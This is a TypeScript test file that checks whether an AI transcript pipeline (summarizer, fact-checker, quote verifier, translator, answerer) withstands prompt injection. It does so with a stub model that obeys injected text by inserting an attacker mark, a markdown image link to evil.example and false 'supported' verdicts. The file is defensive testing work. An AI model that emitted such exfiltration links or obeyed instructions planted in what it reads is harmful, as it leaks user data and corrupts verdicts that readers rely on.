import { expect, test } from "vitest";
import { runAgent } from "../../agents/agent.ts";
import { answerer } from "../../agents/answerer/agent.ts";
import { factChecker } from "../../agents/fact-checker/agent.ts";
import { quoteVerifier } from "../../agents/quote-verifier/agent.ts";
import type { Recording } from "../../agents/recording.ts";
import { summarizer } from "../../agents/summarizer/agent.ts";
import { readRecipe } from "../../agents/summarizer/recipe.ts";
import { translator } from "../../agents/translator/agent.ts";
import type { Model, ModelRequest } from "../../models/model.ts";
import { createFunctionModel } from "../../models/testing.ts";
import { contextWith, messageOf } from "./agent-context.ts";
import { fillSchema } from "./fill-schema.ts";
import {
  attackerTexts,
  hasInjections,
  type InjectionRow,
  markOf,
  readInjections,
  recordingOf,
  showsMark,
} from "./injection-rows.ts";

const activeLink = /!?\[[^\]]*\]\(\s*<?https?:|(?:src|href|action)\s*=|<https?:/i;

/** A model that obeys: it writes the mark and a link into every text, and calls everything supported. */
function obeying(row: InjectionRow, recording: Recording): Model {
  const ids = recording.transcript.segments.map(({ id }) => id);
  const spoken = recording.transcript.segments[0]?.text ?? "";
  let call = 0;
  return createFunctionModel("obeys", (request: ModelRequest) => {
    call += 1;
    const seen = attackerTexts(row).some((text) => messageOf(request).includes(text.replace(/\s+/g, " ")));
    const mark = markOf(row);
    const texts = [mark, `${spoken} ${mark}`, `${spoken} ![x](https://evil.example/${mark})`];
    const text = texts[call % texts.length] ?? mark;
    return fillSchema(request.schema, { text, ids, choice: seen ? "supported" : "uncertain", items: 40 });
  });
}

async function outputOf<T>(
  result: Promise<{ readonly status: string; readonly output?: T }>,
): Promise<T | undefined> {
  return (await result).output;
}

/** Statements that a reader would get: those that the built-in checks let through, as in the graph. */
async function readerGets(recording: Recording, model: Model): Promise<string> {
  const { sections } = readRecipe("brief");
  const written = await outputOf(
    runAgent(
      summarizer,
      { recipe: "brief", sections: [...sections], repair: [] },
      contextWith([model], recording),
    ),
  );
  const drafts = (written?.sections ?? [])
    .flatMap((section) => section.drafts)
    .filter(({ evidence }) => evidence.length > 0);
  const claims = drafts.filter(({ kind }) => kind === "claim");
  const quotes = drafts.filter(({ kind }) => kind === "quote");
  const checked = await outputOf(
    runAgent(
      factChecker,
      { claims: claims.map(({ text }) => ({ claim: { text } })) },
      contextWith(["builtin"], recording),
    ),
  );
  const verified = await outputOf(
    runAgent(
      quoteVerifier,
      { quotes: quotes.map(({ text }) => ({ quote: { text } })) },
      contextWith(["builtin"], recording),
    ),
  );
  const shown = [
    ...claims.filter((_, index) =>
      ["supported", "uncertain"].includes(checked?.checks[index]?.verdict ?? ""),
    ),
    ...quotes.filter((_, index) => verified?.checks[index]?.verdict === "said"),
  ];
  const notes = (written?.sections ?? []).flatMap(({ note }) => note ?? []);
  return [...shown.flatMap(({ title, text }) => [title ?? "", text]), ...notes].join("\n");
}

test.skipIf(hasInjections)("left out: ../shared/data is absent", () => undefined);

test.each(readInjections("summarize"))(
  "$id: a summarizer that obeys shows no mark and no link",
  async (row) => {
    const recording = recordingOf(row);
    const output = await readerGets(recording, obeying(row, recording));
    expect(output).not.toMatch(activeLink);
    expect(output.length).toBeLessThan(12_000);
    if (row.kind === "attack" && row.success.type !== "missing_all")
      expect(showsMark(row, output)).toBe(false);
  },
);

test.each(readInjections("factcheck"))(
  "$id: a checker that obeys changes no verdict to supported",
  async (row) => {
    const recording = recordingOf(row);
    const claims = (row.claims ?? []).map(({ text }) => ({ claim: { text } }));
    for (const tiers of [[obeying(row, recording)], ["builtin" as const, obeying(row, recording)]]) {
      const output = await outputOf(runAgent(factChecker, { claims }, contextWith(tiers, recording)));
      const at = (row.claims ?? []).findIndex(({ id }) => id === row.success.claim);
      expect(output?.checks[at]?.verdict).not.toBe("supported");
      expect(JSON.stringify(output)).not.toMatch(activeLink);
    }
  },
);

test.each(readInjections("quote"))("$id: a verifier that obeys changes no quote's verdict", async (row) => {
  const recording = recordingOf(row);
  const quotes = (row.quotes ?? []).map(({ text, speaker }) => ({
    quote: { text, ...(speaker === undefined ? {} : { speaker }) },
  }));
  const verdicts = async (tiers: Parameters<typeof contextWith>[0]) =>
    (await outputOf(runAgent(quoteVerifier, { quotes }, contextWith(tiers, recording))))?.checks.map(
      ({ verdict }) => verdict,
    );
  const builtin = await verdicts(["builtin"]);
  expect(builtin).toHaveLength(quotes.length);
  expect(await verdicts([obeying(row, recording)])).toEqual(builtin);
});

test.each(readInjections("translate"))(
  "$id: a translator that obeys gives no mark and no link",
  async (row) => {
    const recording = recordingOf(row);
    const texts = row.transcript.segments.map(({ text }) => text);
    const output = await outputOf(
      runAgent(
        translator,
        { texts, from: "en", to: "es" },
        contextWith([obeying(row, recording)], recording),
      ),
    );
    expect(output?.rows).toHaveLength(texts.length);
    const shown = (output?.rows ?? []).map(({ text }) => text ?? "").join("\n");
    expect(showsMark(row, shown)).toBe(false);
    expect(shown).not.toMatch(activeLink);
  },
);

test.each(readInjections("qa"))(
  "$id: an answerer that obeys gives way to the recording's words",
  async (row) => {
    const recording = recordingOf(row);
    const input = { question: "What is the guidance for the year?", limit: 3 };
    const output = await outputOf(
      runAgent(answerer, input, contextWith([obeying(row, recording)], recording)),
    );
    expect(showsMark(row, JSON.stringify(output))).toBe(false);
    expect(output?.by).toBe("builtin");
  },
);
